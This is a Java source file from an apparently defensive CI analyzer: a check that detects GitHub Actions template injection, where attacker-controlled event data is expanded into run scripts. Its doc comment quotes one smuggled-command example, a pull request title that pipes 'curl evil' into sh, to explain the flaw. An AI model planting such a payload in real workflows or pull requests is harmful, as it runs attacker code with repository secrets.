package dev.cimatrix.analyze.checks.github;

import dev.cimatrix.analyze.Check;
import dev.cimatrix.analyze.FindingSink;
import dev.cimatrix.analyze.StepContext;
import dev.cimatrix.analyze.expr.TaintSource;
import dev.cimatrix.analyze.github.Checkouts;
import dev.cimatrix.analyze.github.CodeSinks;
import dev.cimatrix.analyze.github.Gates;
import dev.cimatrix.analyze.github.Triggers;
import dev.cimatrix.analyze.github.WorkflowTaint;
import dev.cimatrix.analyze.github.WorkflowTaint.Scope;
import dev.cimatrix.catalog.Confidence;
import dev.cimatrix.catalog.Severity;
import dev.cimatrix.model.ExpressionUse;

import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * Attacker-controlled data expanded by {@code ${{ }}} into code: a {@code run:} script, the script of
 * actions/github-script, or an input that an action runs. GitHub pastes the value into the code before it
 * runs, so a pull request titled {@code a"; curl evil | sh; "} runs that command. Data reaches the
 * expression directly from the event, or through env variables, step and job outputs, and the inputs of
 * local reusable workflows and composite actions.
 */
public final class TemplateInjectionCheck implements Check {
    public static final String ID = "gha-template-injection";

    @Override
    public String id() {
        return ID;
    }

    @Override
    public void step(StepContext context, FindingSink findings) {
        WorkflowTaint taint = WorkflowTaint.of(context.inventory(), context.derived());
        WorkflowTaint latent = WorkflowTaint.latent(context.inventory(), context.derived());
        Scope scope = Scope.of(context);
        Set<String> triggers = taint.triggers(scope);
        Optional<String> privileged = Triggers.privilegedForOutsiders(triggers);
        // Worked out for the first finding only: most steps have none.
        List<Gates.Gate> forkGates = null;
        for (CodeSinks.CodeValue code : CodeSinks.of(context.step())) {
            for (ExpressionUse use : code.value().expressions()) {
                List<TaintSource> sources = taint.sources(use, scope);
                if (sources.isEmpty()) {
                    reportLatent(latent.sources(use, scope), use, code, findings);
                    continue;
                }
                Set<String> names = new LinkedHashSet<>();
                sources.forEach(s -> names.add(s.source()));
                boolean published = context.inAction() && taint.isPublished(context.action());
                boolean indirect = !use.source().strip().toLowerCase().startsWith("github.");
                String origin = String.join(", ", names);
                String message = "${{ " + use.source().strip() + " }} expands " + (indirect ? "data from " : "")
                        + origin + " into a " + code.language() + " (" + code.where() + "); an attacker who controls it "
                        + "runs their own commands" + (privileged.isPresent() ? " with the secrets and token of "
                        + Triggers.withArticle(privileged.get()) + " run" : published ? " in every workflow that uses this action" : "")
                        + ". Pass it through an environment variable instead.";
                var finding = findings.at(use.location()).message(message)
                        .subject(code.where() + ":" + use.source().strip())
                        .property("sources", origin)
                        .property("sink", code.where());
                if (privileged.isEmpty() && !published) {
                    finding.severity(Severity.MEDIUM);
                }
                if (published) {
                    finding.confidence(Confidence.MEDIUM);
                    if (names.stream().allMatch(TemplateInjectionCheck::namedForAFixedFormat)) {
                        // A caller may still pass anything, but one that passes a branch name here misuses it.
                        finding.severity(Severity.MEDIUM).clause("the input's name says it holds a commit hash, a "
                                + "number or an id, which callers rarely fill with text an outsider chose");
                    }
                } else if (indirect) {
                    finding.confidence(Confidence.MEDIUM);
                }
                finding.confidenceAtMost(taint.sureness(names, scope));
                if (WorkflowTaint.allShellEscaped(names) && POSIX_SCRIPTS.contains(code.language())) {
                    finding.confidenceAtMost(Confidence.LOW).clause("the action escapes shell characters in the names, "
                            + "so they cannot end the command or start another; unquoted, a name with spaces still splits "
                            + "into several words");
                }
                if (privileged.isEmpty() && !published) {
                    taint.pullRequestCodeClause(scope, "the injection")
                            .ifPresent(clause -> finding.severity(Severity.LOW).clause(clause));
                }
                if (fromPullRequestsOnly(triggers)) {
                    // With forks kept out, a pull request's title, body and branch are written by people who can
                    // push to the repository.
                    if (forkGates == null) {
                        forkGates = Gates.forkGates(context);
                    }
                    forkGates.forEach(gate -> gate.lower(finding));
                }
                finding.report();
            }
        }
    }

    /** Scripts whose shell reads a backslash as escaping the next character (run: with bash, sh or the default shell). */
    private static final Set<String> POSIX_SCRIPTS = Set.of("shell script", "bash script", "sh script");

    /** An input named for a commit hash, a number or an id: {@code base_sha}, {@code pr-number}, {@code run_id}. */
    private static final Pattern FIXED_FORMAT_INPUT = Pattern.compile("(?i)(?:^|.*[_-])(?:sha|number|num|id)");

    private static boolean namedForAFixedFormat(String source) {
        return source.startsWith(WorkflowTaint.PUBLISHED_INPUT)
                && FIXED_FORMAT_INPUT.matcher(source.substring(WorkflowTaint.PUBLISHED_INPUT.length())).matches();
    }

    /** Whether every outsider's trigger of the step carries a pull request (pull_request*, workflow_run of one). */
    private static boolean fromPullRequestsOnly(Set<String> triggers) {
        return Triggers.outsiders(triggers).stream().allMatch(t -> t.startsWith("pull_request") || t.equals("workflow_run"));
    }

    /**
     * An event field that outsiders control under other triggers but is empty under this workflow's: not
     * exploitable today, and exploitable the day someone adds the trigger. Low severity.
     */
    private static void reportLatent(List<TaintSource> sources, ExpressionUse use, CodeSinks.CodeValue code,
                                     FindingSink findings) {
        if (sources.isEmpty()) {
            return;
        }
        Set<String> names = new LinkedHashSet<>();
        sources.forEach(s -> names.add(s.source()));
        findings.at(use.location())
                .message("${{ " + use.source().strip() + " }} expands " + String.join(", ", names) + " into a "
                        + code.language() + " (" + code.where() + "); the field is attacker-controlled under other "
                        + "triggers and empty under this workflow's, so the script becomes injectable as soon as such "
                        + "a trigger is added. Pass it through an environment variable instead.")
                .severity(Severity.LOW)
                .confidence(Confidence.MEDIUM)
                .subject(code.where() + ":" + use.source().strip())
                .property("sources", String.join(", ", names))
                .property("latent", "true")
                .report();
    }
}
